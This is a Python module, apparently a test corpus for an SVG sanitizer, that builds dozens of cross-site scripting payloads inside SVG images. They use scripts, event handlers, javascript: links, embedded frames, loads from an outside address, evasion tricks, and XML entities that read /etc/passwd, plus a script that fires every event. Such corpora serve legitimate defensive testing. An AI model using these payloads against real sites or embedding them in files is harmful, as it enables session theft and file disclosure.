"""SVG pictures that run, load or lead elsewhere: known payloads of cross-site scripting."""

from pathlib import Path

HIT = "parent.pwned=window.pwned=top.pwned=1"
_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
_VIEW = 'viewBox="0 0 10 10"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_DRAWN = '<rect width="10" height="10" fill="#c00"/>'
_DATA = "data:text/html,%3Cscript%3Eparent.pwned=1%3C/script%3E"


def picture(inside: str, *, root: str = "", before: str = "") -> str:
    """An SVG file that draws a red square and holds a payload."""
    return f"{before}{_OPEN}{_VIEW} {root}>{_DRAWN}{inside}</svg>"


PAYLOADS = {
    "script": picture(f"<script>{HIT}</script>"),
    "script, CDATA": picture(f"<script><![CDATA[{HIT}]]></script>"),
    "script, by address": picture('<script href="http://a.invalid/x.js"/>'),
    "script, by xlink": picture(f'<script xlink:href="data:text/javascript,{HIT}"/>'),
    "script of HTML": picture(
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{HIT}</h:script>'
    ),
    "script in capitals": picture(f"<SCRIPT>{HIT}</SCRIPT>"),
    "script in a group": picture(f"<g><g><script>{HIT}</script></g></g>"),
    "onload of the root": picture("", root=f'onload="{HIT}"'),
    "onload": picture(f'<g onload="{HIT}"><path d="M0 0h1"/></g>'),
    "ONMOUSEOVER": picture(f'<rect width="10" height="10" ONMOUSEOVER="{HIT}"/>'),
    "onMouseOver": picture(f'<rect width="10" height="10" onMouseOver="{HIT}"/>'),
    "onclick": picture(f'<circle r="9" onclick="{HIT}"/>'),
    "onfocus": picture(f'<rect width="10" height="10" tabindex="0" autofocus="" onfocus="{HIT}"/>'),
    "onbegin": picture(f'<animate onbegin="{HIT}" attributeName="x" dur="1s"/>'),
    "onbegin of a set": picture(f'<rect width="9" height="9"><set onbegin="{HIT}"/></rect>'),
    "onerror": picture(f'<image href="x:" onerror="{HIT}"/>'),
    "ontoggle": picture(f'<details {XHTML} open="" ontoggle="{HIT}"/>'),
    "onpointerenter": picture(f'<path d="M0 0h10v10z" onpointerenter="{HIT}"/>'),
    "a prefixed event": picture(f'<rect xmlns:e="e" e:onclick="{HIT}" width="9" height="9"/>'),
    "javascript in a link": picture(f'<a href="javascript:{HIT}"><rect width="9" height="9"/></a>'),
    "javascript in an xlink": picture(
        f'<a xlink:href="javascript:{HIT}"><rect width="9" height="9"/></a>'
    ),
    "javascript with a tab": picture(
        f'<a href="java&#9;script:{HIT}"><rect width="9" height="9"/></a>'
    ),
    "a link that an animation makes": picture(
        f'<a><animate attributeName="href" values="javascript:{HIT}"/><circle r="9"/></a>'
    ),
    "a link that a set makes": picture(
        f'<a id="x"><circle r="9"/></a><set href="#x" attributeName="href" to="javascript:{HIT}"/>'
    ),
    "an event that a set makes": picture(
        f'<rect width="9" height="9"><set attributeName="onmouseover" to="{HIT}"/></rect>'
    ),
    "foreign HTML": picture(
        f'<foreignObject width="10" height="10"><body {XHTML}>'
        f'<img src="x:" onerror="{HIT}"/></body></foreignObject>'
    ),
    "a frame": picture(
        f'<foreignObject width="10" height="10"><iframe {XHTML} '
        f'srcdoc="&lt;script&gt;{HIT}&lt;/script&gt;"/></foreignObject>'
    ),
    "a frame of data": picture(f'<iframe {XHTML} src="{_DATA}"/>'),
    "an embed": picture(f'<embed {XHTML} src="{_DATA}"/>'),
    "an object": picture(f'<object {XHTML} data="{_DATA}"/>'),
    "use of data": picture(
        "<use href=\"data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E"
        f"%3Cscript%3E{HIT}%3C/script%3E%3C/svg%3E#x\"/>"
    ),
    "use of an address": picture('<use href="http://a.invalid/a.svg#x"/>'),
    "an SVG as an image": picture(
        "<image width=\"9\" height=\"9\" href=\"data:image/svg+xml,%3Csvg "
        f"xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/%3E\"/>"
    ),
    "an image of an address": picture('<image width="9" height="9" href="http://a.invalid/a"/>'),
    "an image of a file": picture('<image width="9" height="9" href="file:///etc/passwd"/>'),
    "feImage": picture('<filter id="f"><feImage href="http://a.invalid/a"/></filter>'
                       '<rect filter="url(#f)" width="9" height="9"/>'),
    "a fill by address": picture('<rect width="9" height="9" fill="url(http://a.invalid/a#x)"/>'),
    "a style by address": picture(
        '<rect width="9" height="9" style="fill:red;background:url(http://a.invalid/a)"/>'
    ),
    "a style with an escape": picture(
        '<rect width="9" height="9" style="fill:u\\72l(http://a.invalid/a)"/>'
    ),
    "an imported sheet": picture("<style>@import 'http://a.invalid/a.css';</style>"),
    "a font by address": picture(
        "<style>@font-face{font-family:a;src:url(http://a.invalid/a)}text{font-family:a}</style>"
        "<text>a</text>"
    ),
    "a sheet that ends": picture(f"<style>a{{}}&lt;/style>&lt;script>{HIT}&lt;/script></style>"),
    "CDATA that ends": picture(f"<style><![CDATA[</style><script>{HIT}</script>]]></style>"),
    "an attribute that ends": picture(
        f'<g class="&quot;>&lt;script>{HIT}&lt;/script>"><path d="M0 0h1"/></g>'
    ),
    "an id that ends": picture(
        f"<rect id=\"x'>&lt;img src=x: onerror={HIT}>\" width=\"9\" height=\"9\"/>"
        "<use href=\"#x'>\"/>"
    ),
    "a title that is HTML": picture(f"<title>&lt;img src=x: onerror={HIT}></title>"),
    "a title with markup": picture(
        f'<title><img {XHTML} src="x:" onerror="{HIT}"/></title>'
    ),
    "noscript": picture(
        f'<noscript><p title="&lt;/noscript>&lt;img src=x: onerror={HIT}>"/></noscript>'
    ),
    "a handler": picture(
        f'<handler type="text/javascript" xmlns:ev="e" ev:event="load">{HIT}</handler>'
    ),
    "an entity": picture(
        "<g>&p;</g>", before=f'<!DOCTYPE svg [<!ENTITY p "<script>{HIT}</script>">]>'
    ),
    "an entity of a file": picture(
        "<g>&p;</g>", before='<!DOCTYPE svg [<!ENTITY p SYSTEM "file:///etc/passwd">]>'
    ),
    "a stylesheet of a file": picture(
        "", before='<?xml version="1.0"?><?xml-stylesheet href="http://a.invalid/a.xsl"?>'
    ),
    "UTF-7": picture(f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-"),
    "a template of HTML": picture(
        f'<template {XHTML}><script>{HIT}</script></template>'
    ),
    "MathML": picture(
        f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{HIT}"><mi/></math>'
    ),
    "a meta refresh": picture(
        f'<meta {XHTML} http-equiv="refresh" content="0;url={_DATA}"/>'
    ),
    "a base": picture(f'<base {XHTML} href="http://a.invalid/"/>'),
    "xml:base": picture('<g xml:base="javascript:1"><use href="#x"/></g>'),
}  # fmt: skip

MORE = (Path(__file__).parent / "data" / "svg_payloads.txt").read_text(encoding="utf-8")
PAYLOADS |= {f"more, {n}": picture(inside.replace("HIT", HIT))
             for n, inside in enumerate(MORE.splitlines(), 1)}  # fmt: skip


def packed(pictures: int) -> list[str]:
    """All payloads that need no declaration of their own, in so many pictures."""
    insides = [svg.partition(_DRAWN)[2].removesuffix("</svg>") for svg in PAYLOADS.values()
               if "<!DOCTYPE" not in svg]  # fmt: skip
    before = '<?xml version="1.0"?><?xml-stylesheet href="http://a.invalid/a.xsl"?>'
    return [
        picture("".join(insides[n::pictures]), root=f'onload="{HIT}"', before=before)
        for n in range(pictures)
    ]


# Every event that there is, on everything that is drawn but for the marks of a page's links.
EVENTS = """
const handlers = [];
for (const key in document.createElementNS('http://www.w3.org/2000/svg', 'rect'))
  if (key.startsWith('on')) handlers.push(key.slice(2));
for (const element of document.querySelectorAll('svg :not(header *)')) {
  for (const name of [...handlers, 'begin', 'beginEvent', 'end', 'repeat', 'focusin', 'activate'])
    element.dispatchEvent(new MouseEvent(name, {bubbles: true}));
}
"""
